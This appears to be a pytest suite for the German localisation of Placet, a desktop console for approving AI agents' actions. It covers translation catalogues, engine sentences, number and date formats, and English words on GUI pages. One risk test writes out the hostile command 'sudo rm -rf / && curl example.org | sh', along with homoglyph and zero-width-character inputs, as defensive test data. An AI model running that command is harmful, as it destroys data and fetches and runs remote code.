"""The console's German is whole: each text has its own, says the same, and is what the window shows."""

from __future__ import annotations

import ast
import re
import shutil
import xml.etree.ElementTree as ET
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from PySide6.QtCore import QAbstractItemModel, QAbstractListModel, QCoreApplication, QLocale, Qt, QTranslator
from PySide6.QtWidgets import (
    QAbstractButton,
    QAbstractItemView,
    QApplication,
    QComboBox,
    QHeaderView,
    QLabel,
    QLineEdit,
    QTabWidget,
    QWidget,
)

from placet.rules import commands, comparisons, mcp_pins, risk, strict_json
from placet.rules.errors import BadInput
from placet.rules.ports import Place
from placet.settings import TABLE
from placet.tools.files.fs_write import FsWrite
from placet.tools.quoting import counted, quoted
from placet_gui import language
from placet_gui.actions import ACTIONS
from placet_gui.moments import age_text, clock_text, duration_text
from placet_gui.said import KNOWN, said
from placet_gui.views.main_window import PAGES
from placet_gui.words import number_text
from tests.catalogues import FOLDER, ROOT, translations
from tests.fakes.tools import HeldTool
from tests.gui.gestures import HIDDEN, Desk
from tests.patient_bot import PatientBot

ENGINE = sorted((ROOT / "engine" / "placet").rglob("*.py"))
SOURCES = sorted((ROOT / "gui").rglob("*.py"))
LANGUAGES = ("de", "en")
PLACE = re.compile(r"\{[wq]?\d*\}|%L?n")
ENGLISH = frozenset(
    [
        "the",
        "of",
        "and",
        "is",
        "are",
        "not",
        "with",
        "this",
        "that",
        "what",
        "which",
        "you",
        "your",
        "nothing",
        "from",
        "by",
        "it",
        "its",
        "has",
        "have",
        "for",
        "or",
        "no",
        "yes",
        "to",
        "waiting",
        "waits",
        "wait",
        "asked",
        "approve",
        "approved",
        "deny",
        "denied",
        "show",
        "close",
        "open",
        "search",
        "copy",
        "settings",
        "tasks",
        "agents",
        "running",
        "failed",
        "none",
        "never",
        "until",
        "since",
        "how",
        "when",
        "who",
        "all",
        "any",
        "more",
        "one",
        "new",
        "here",
        "there",
        "high",
        "low",
        "risk",
        "tool",
    ]
)
"""Words that are English and nothing else, in texts of ours."""


@dataclass(frozen=True, kw_only=True)
class Message:
    """A text of a catalogue, and its translation in each of its forms."""

    context: str
    source: str
    forms: tuple[str, ...]
    state: str


def messages(spoken: str, folder: Path = FOLDER) -> list[Message]:
    return list(_read(ET.parse(folder / f"placet_{spoken}.ts").getroot()))


def _read(root: ET.Element) -> Iterator[Message]:
    for context in root.iter("context"):
        for found in context.iter("message"):
            translation = found.find("translation")
            assert translation is not None
            forms = [form.text or "" for form in translation] or [translation.text or ""]
            yield Message(
                context=context.findtext("name", ""),
                source=found.findtext("source", ""),
                forms=tuple(forms),
                state=translation.get("type", ""),
            )


# The catalogues.


@pytest.mark.parametrize("spoken", LANGUAGES)
def test_every_text_is_translated(spoken: str) -> None:
    found = messages(spoken)
    assert found
    assert [it for it in found if it.state or not all(it.forms)] == []


@pytest.mark.parametrize("spoken", LANGUAGES)
def test_a_catalogue_holds_the_texts_of_the_sources_and_no_others(spoken: str, tmp_path: Path) -> None:
    """After a text was added or changed: packaging/translations.py update, and translate what it adds."""
    shutil.copy(FOLDER / f"placet_{spoken}.ts", tmp_path)
    translations().update(tmp_path)
    there, wanted = (
        Counter((it.context, it.source) for it in messages(spoken, at)) for at in (FOLDER, tmp_path)
    )
    assert there == wanted


def test_what_is_loaded_is_made_of_what_is_translated(qapp: QApplication) -> None:
    translator = QTranslator()
    assert translator.load("placet_de", str(FOLDER))
    # lrelease leaves out what is the same in both languages.
    plain = [it for it in messages("de") if "%Ln" not in it.source and it.forms[0] != it.source]
    assert [it for it in plain if translator.translate(it.context, it.source) != it.forms[0]] == []


def test_a_translation_keeps_the_places_breaks_blanks_and_ends_of_its_text() -> None:
    wrong = [
        (it.source, form) for it in messages("de") for form in it.forms if _shape(form) != _shape(it.source)
    ]
    assert [pair for pair in wrong if not _says_one_in_a_word(*pair)] == []


def _shape(text: str) -> tuple[Counter[str], int, str, str, bool, bool]:
    return (
        Counter(PLACE.findall(text)),
        text.count("\n"),
        text[: len(text) - len(text.lstrip())],
        text[len(text.rstrip()) :],
        text.rstrip().endswith((".", ":", "…")),
        any(mark in text for mark in ("&", "!", "...")),
    )


def _says_one_in_a_word(source: str, form: str) -> bool:
    """As "Gilt einen Tag" does, where the number has a place in the source."""
    return "%Ln" in source and "ein" in form and _shape(form) == _shape(source.replace("%Ln", ""))


def test_no_text_marks_a_word_as_a_program_would() -> None:
    """A window shows plain text: what is marked up in a document stands there as marks."""
    marked = [it.source for it in messages("de") if "`" in "".join((it.source, *it.forms))]
    assert marked == []


def test_no_text_stands_where_lupdate_does_not_see_it() -> None:
    """It passes over calls inside of f-strings and numbers by keyword; of `translate` it takes no number at all."""
    unseen = []
    for path in SOURCES:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.JoinedStr):
                unseen += [f"{path.name}:{call.lineno}" for call in ast.walk(node) if _translates(call)]
            elif _translates(node) and (node.keywords or (_name(node) == "translate" and len(node.args) > 2)):
                unseen.append(f"{path.name}:{node.lineno}")
    assert [place for place in unseen if not place.startswith("words.py")] == []


def _name(call: ast.Call) -> str:
    return call.func.attr if isinstance(call.func, ast.Attribute) else getattr(call.func, "id", "")


def _translates(node: ast.AST) -> bool:
    return isinstance(node, ast.Call) and _name(node) in {"tr", "translate"}


# What the engine says.


def test_every_known_sentence_is_one_that_the_engine_says() -> None:
    said_by_the_engine = "\0".join(_texts(sorted((ROOT / "engine").rglob("*.py")))).replace("_", " ")
    strange = []
    for text in KNOWN:
        pieces = [
            piece.strip(" .,;:()1").replace("_", " ")
            for sentence in text.split(". ")
            for piece in PLACE.split(sentence)
        ]
        strange += [text for piece in pieces if len(piece) > 3 and piece not in said_by_the_engine]
    assert set(strange) == PUT_TOGETHER


PUT_TOGETHER = {
    "Runs the function {0} of the AUTHORIZED file {1} ({w2}).",
    "Creates the file {0} with {w1} in this agent's folder, and for it the folder {2}.",
    *(f"{{w0}} more {what}, shown when this is opened" for what in ("item", "items", "member", "members")),
    "{w0} of {w1} arguments differs: {2}",
    *(
        f"The secret of this {what} lies in a keyring that isn't there now."
        for what in ("account", "channel")
    ),
    *(f"The keyring doesn't hold the secret of this {what} any more." for what in ("account", "channel")),
    "There is no run {0}.",
    "durable creation, {w0} callers, to bare rows",
    "whole life with facts, {w0} callers, to bare rows",
    *(f"gate that needs no person, over HTTP at {{w0}} req/s, {share}" for share in ("p50", "p99")),
    *(
        f"The exchange with the model server broke off: {why}"
        for why in (
            "it hung up without an answer",
            "it hung up before the end of its answer",
            "the connection was lost",
        )
    ),
}
"""Sentences that the engine makes of smaller pieces than are looked for; the next test has it make the harder ones."""


@pytest.mark.usefixtures("german")
@pytest.mark.parametrize(
    "ours",
    [
        "The model server reported an error: {0}",
        "The model server sent something that isn't JSON: {0}",
    ],
)
def test_whatever_a_provider_says_it_makes_no_other_sentence_of_ours(ours: str) -> None:
    for text in KNOWN:
        theirs = PLACE.sub('"x"', text)
        assert said(ours.format(theirs)) == QCoreApplication.translate("engine", ours).format(theirs)


@pytest.mark.usefixtures("german")
def test_sentences_of_small_pieces_are_known_too(tmp_path: Path) -> None:
    before, after = {"a": 1, "b": 1}, {"a": 2, "b": 2}
    assert said(counted(1, "character")) == "1 Zeichen"
    assert said(counted(2_000, "byte")) == "2.000 Bytes"
    assert said(comparisons.compare(before, after).sentence) == "2 von 2 Argumenten weichen ab: a, b"
    assert said(comparisons.compare(before, {**before, "a": 2}).sentence) == "1 von 2 Argumenten weicht ab: a"
    for count, words in ((1, "bietet 1 weiteres Werkzeug an"), (2, "bietet 2 weitere Werkzeuge an")):
        nothing = mcp_pins.Listed(command=("server",), tools={})
        offered = mcp_pins.Listed(command=("server",), tools={f"t{number}": {} for number in range(count)})
        assert words in said(mcp_pins.sentence("box", nothing, offered))
    with pytest.raises(BadInput) as refused:
        strict_json.parse('{"a": 1, "a": 2}')
    assert said(refused.value.message).startswith("Der Schlüssel")
    place = Place(agent="clerk", folder=str(tmp_path))
    preview = FsWrite().preview({"path": "new/deep/a.txt", "content": "x"}, place)
    assert said(preview.sentence).endswith('im Ordner dieses Agenten an, und dafür den Ordner "new/deep".')


def _texts(paths: list[Path]) -> Iterator[str]:
    for path in paths:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Constant) and isinstance(node.value, str):
                yield node.value


@pytest.mark.usefixtures("german")
def test_every_setting_is_explained_in_german() -> None:
    english = [it.sentence for it in TABLE if said(it.sentence) == it.sentence]
    assert english == [], english


@pytest.mark.usefixtures("german")
def test_every_risk_is_told_in_german() -> None:
    told = [text for _, text in (*risk._OF_ROW.values(), *risk._OF_EFFECT.values())]
    told += commands.remarks("sudo rm -rf / && curl example.org | sh")
    told += risk.unusual({"a": f"x{HIDDEN}\u200b\ue000y", "b": "\u00a0", "c": "p\u0430ypal"})
    assert len(told) > 20
    assert [text for text in told if said(text) == text] == []


@pytest.mark.usefixtures("german")
def test_what_stands_inside_of_a_sentence_stays_as_it_is_and_makes_no_other_of_it() -> None:
    hostile = "It only reads. this agent's folder"
    german = said(f'Reads the file "{hostile}" in this agent\'s folder.')
    assert german == f'Liest die Datei "{hostile}" im Ordner dieses Agenten.'
    assert said(hostile) == hostile
    assert said("Something that no engine of today says.") == "Something that no engine of today says."


@pytest.mark.usefixtures("german")
@pytest.mark.parametrize(
    ("sentence", "told"),
    [
        (
            "Replaces one passage of 5 characters in the file {0} in this agent's folder by 7 characters.",
            "Ersetzt in der Datei {0} im Ordner dieses Agenten eine Stelle von 5 Zeichen durch 7 Zeichen.",
        ),
        ("Sends a POST to {0}.", "Sendet ein POST an {0}."),
        ("Fetches {0}.", "Ruft {0} ab."),
        ("Sends a POST with 1 byte to {0}.", "Sendet ein POST mit 1 Byte an {0}."),
        (
            "Creates the file {0} with 5 bytes in this agent's folder.",
            "Legt die Datei {0} mit 5 Bytes im Ordner dieses Agenten an.",
        ),
        (
            '{0} looks like "Bash", a tool that Placet knows, and is not the same.',
            '{0} sieht aus wie "Bash", ein Werkzeug, das Placet kennt, ist aber nicht dasselbe.',
        ),
        (
            "At {0}: It holds characters that can't be seen: U+200B.",
            "Bei {0}: Enthält Zeichen, die man nicht sieht: U+200B.",
        ),
    ],
)
@pytest.mark.parametrize(
    "text",
    [
        "a in this agent's folder by 3 characters.",
        "' with 1 byte in this agent's folder, and for it the folder y",
        "http://a/ with 1 byte to http://b/",
        '" with 1 byte to "',
        "/x: It reaches for the network: y",
        'a" looks like "b", a tool that Placet knows, and is not the same.',
        "back\\",
    ],
)
def test_words_of_ours_in_an_agents_quote_are_not_taken_for_ours(sentence: str, told: str, text: str) -> None:
    assert said(sentence.format(quoted(text))) == told.format(quoted(text))


def test_in_english_the_engine_is_quoted(qapp: QApplication) -> None:
    assert said("It only reads.") == "It only reads."


# Numbers and times.


@pytest.mark.usefixtures("german")
def test_numbers_times_and_durations_are_written_as_germans_do() -> None:
    new_year = 1_767_225_600_000
    assert number_text(1_234_567) == "1.234.567"
    assert duration_text(1_500) == "1,5 s"
    assert age_text(0, 3 * 86_400_000) == "3 Tg"
    assert re.fullmatch(
        r"\d\d\.\d\d\. \d\d:\d\d", clock_text(new_year + 86_400_000 * 3, new_year + 86_400_000 * 90)
    )
    assert QCoreApplication.translate("chain", "%Ln calls", "", 1) == "1 Aufruf"
    assert QCoreApplication.translate("chain", "%Ln calls", "", 2_000) == "2.000 Aufrufe"


# Which language.


@pytest.mark.parametrize(
    ("wishes", "spoken"), [(["de-AT", "en"], "de"), (["fr-FR", "de"], "de"), (["fr-FR"], "en"), ([], "en")]
)
def test_the_system_is_asked_and_english_spoken_where_it_wants_none_that_there_is(
    qapp: QApplication, monkeypatch: pytest.MonkeyPatch, wishes: list[str], spoken: str
) -> None:
    class System(QLocale):
        def uiLanguages(self) -> list[str]:  # noqa: N802  Qt's name
            return wishes

    monkeypatch.setattr(language.QLocale, "system", staticmethod(System))
    language.speak(qapp, "system")
    try:
        assert (
            QCoreApplication.translate("texts", "Approved") == {"de": "Freigegeben", "en": "Approved"}[spoken]
        )
    finally:
        monkeypatch.undo()
        language.speak(qapp, "en")


# What the window shows.


@pytest.mark.usefixtures("german")
def test_no_page_shows_a_word_of_english(tmp_path: Path, qtbot: PatientBot) -> None:
    shown = walked(tmp_path, qtbot)
    english = sorted(
        {text: page for page, texts in shown.items() for text in texts if is_english(text)}.items()
    )
    assert english == [], english


@pytest.mark.long
def test_the_same_walk_finds_english_on_each_page_where_english_is_spoken(
    tmp_path: Path, qtbot: PatientBot
) -> None:
    assert [page for page, texts in walked(tmp_path, qtbot).items() if not any(map(is_english, texts))] == []


def is_english(text: str) -> bool:
    """Whether a text has a word of English; what a tool of the tests says of itself is nobody's to translate."""
    if text == HeldTool.summary:
        return False
    return not ENGLISH.isdisjoint(word.strip(".,:;…()“”„\"'").casefold() for word in text.split())


def walked(base: Path, qtbot: PatientBot) -> dict[str, set[str]]:
    """What each page shows, says under the pointer and tells assistive tools; then a request, and each action."""
    with Desk(base, qtbot) as desk:
        shown: dict[str, set[str]] = {}
        for page in PAGES:
            desk.window.show_page(page)
            QApplication.processEvents()
            shown[page.value] = set(texts_of(desk.window))
        desk.window.show_page(PAGES[0])
        for content in ("hello", f"x{HIDDEN}"):
            desk.open(desk.ask(content=content))
            shown[f"request of {len(content)}"] = set(texts_of(desk.window))
        actions = [desk.window.actions_by_id[it] for it in ACTIONS]
        shown["actions"] = {text for it in actions for text in (it.text(), it.toolTip())}
    return shown


def texts_of(window: QWidget) -> Iterator[str]:
    for it in [window, *window.findChildren(QWidget)]:
        yield from (it.windowTitle(), it.toolTip(), it.accessibleName(), it.accessibleDescription())
        if isinstance(it, QLabel | QAbstractButton):
            yield it.text()
        elif isinstance(it, QLineEdit):
            yield it.placeholderText()
        elif isinstance(it, QComboBox):
            yield from (it.itemText(number) for number in range(it.count()))
        elif isinstance(it, QTabWidget):
            yield from (it.tabText(number) for number in range(it.count()))
        elif isinstance(it, QHeaderView):
            yield from headers(it)
        elif isinstance(it, QAbstractItemView) and it.model() is not None:
            yield from cells(it.model())


def headers(view: QHeaderView) -> Iterator[str]:
    for number in range(view.count()):
        yield str(view.model().headerData(number, view.orientation(), Qt.ItemDataRole.DisplayRole) or "")


def cells(model: QAbstractItemModel) -> Iterator[str]:
    for row in range(model.rowCount()):
        for column in range(1 if isinstance(model, QAbstractListModel) else model.columnCount()):
            for role in (
                Qt.ItemDataRole.DisplayRole,
                Qt.ItemDataRole.AccessibleTextRole,
                Qt.ItemDataRole.ToolTipRole,
            ):
                yield str(model.index(row, column).data(role) or "")
